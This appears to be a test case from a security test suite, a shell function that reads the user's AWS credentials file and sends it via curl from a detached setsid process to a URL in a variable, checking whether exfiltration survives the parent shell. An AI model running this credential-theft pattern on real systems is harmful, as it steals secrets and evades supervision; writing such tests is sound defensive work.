# SPDX-License-Identifier: Apache-2.0
TITLE="a daemonised sender outlives the shell that read the secret"
ROW="P02"
SETTLE=2
attack() {
	local loot; loot=$(cat "$HOME/.aws/credentials")
	( setsid sh -c 'sleep 1; curl -s -m 5 -d "$1" "$0/"' "$URL" "$loot" >/dev/null 2>&1 & )
}
